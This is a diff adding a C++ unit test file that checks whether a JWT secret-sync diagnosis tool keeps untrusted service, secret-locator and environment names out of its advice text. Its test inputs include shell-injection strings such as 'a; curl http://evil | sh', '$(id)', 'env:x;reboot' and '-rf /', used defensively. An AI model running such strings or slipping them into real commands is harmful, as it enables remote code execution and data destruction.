@@ -1,0 +1,47 @@
+// SPDX-License-Identifier: Apache-2.0
+#include "diagnosis/advice.h"
+
+#include "diagnosis/pair.h"
+#include "fixture.h"
+
+#include <gmock/gmock.h>
+
+namespace jwtsync::diagnosis {
+namespace {
+
+std::string who(const std::string& service, const std::string& instance) {
+  const Agreement agreement = fixture::agreement_of(fixture::process(service, instance, "k"));
+  return Advice("restart ").who({{&agreement.members[0]}, service}).text();
+}
+
+TEST(advice, names_a_process_that_has_a_plain_name) {
+  EXPECT_EQ(who("backend", "back-5c1a"), "restart backend");
+  for (const std::string name : {"a; curl http://evil | sh", "a`id`", "a$(id)", "a b", "a\"", "a'", "a|b", "a>b", "a&b",
+                                 "\xE2\x80\xAE", "a\\", "-rf /", "a/b"}) {
+    EXPECT_EQ(who(name, "i-1"), "restart that process") << name;
+    EXPECT_EQ(who("backend", name), "restart that process") << name;
+  }
+  EXPECT_EQ(who(std::string(65, 'a'), "i-1"), "restart that process");
+}
+
+TEST(advice, names_a_place_that_is_plain_and_without_its_options) {
+  const auto place = [](std::string_view locator) { return Advice("give ").place(locator).text(); };
+  EXPECT_EQ(place("env:JWT_SECRET_KEY"), "give JWT_SECRET_KEY");
+  EXPECT_EQ(place("env:JWT_SECRET_KEY?trim=no"), "give JWT_SECRET_KEY");
+  EXPECT_EQ(place("file:/run/secrets/jwt?format=base64"), "give file:/run/secrets/jwt");
+  EXPECT_EQ(place("gcp-sm://project/name"), "give gcp-sm://project/name");
+  for (const std::string locator : {"env:x;reboot", "env:path", "env:", "file:/a b", "file:/$(id)", "curl:evil", "a",
+                                    "file:/`id`", "http://evil/x|sh", "env:A\nB", "gcp-sm:/a'b"}) {
+    EXPECT_EQ(place(locator), "give its source") << locator;
+  }
+}
+
+TEST(advice, names_an_environment_that_has_a_plain_name) {
+  EXPECT_EQ(Advice("set ENVIRONMENT=").environment("staging").text(), "set ENVIRONMENT=staging");
+  EXPECT_EQ(Advice("set ENVIRONMENT=").environment("staging`id`$(id)").text(), "set ENVIRONMENT=the right one");
+  EXPECT_EQ(Advice("a key for ").environments({"qa", "staging"}).text(), "a key for qa and staging");
+  EXPECT_EQ(Advice("a key for ").environments({"qa", "$(id)"}).text(), "a key for all but one");
+}
+
+}  // namespace
+}  // namespace jwtsync::diagnosis
